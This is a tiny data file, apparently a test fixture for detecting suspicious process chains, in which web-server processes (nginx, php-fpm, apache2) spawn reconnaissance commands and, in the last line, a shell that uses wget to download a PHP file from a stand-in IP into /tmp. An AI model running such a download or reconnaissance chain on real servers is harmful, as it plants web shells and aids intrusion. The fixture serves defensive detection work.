# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/sbin/nginx /usr/sbin/php-fpm8.2 /usr/sbin/apache2 /usr/bin/wget
chain /usr/sbin/nginx -g 'daemon off;' :: whoami
chain /usr/sbin/php-fpm8.2 --nodaemonize :: sh -c 'cd /var/www/html; id; pwd 2>&1'
chain /usr/sbin/apache2 -k start :: sh -c 'wget http://192.0.2.7/s.php -O /tmp/s.php'
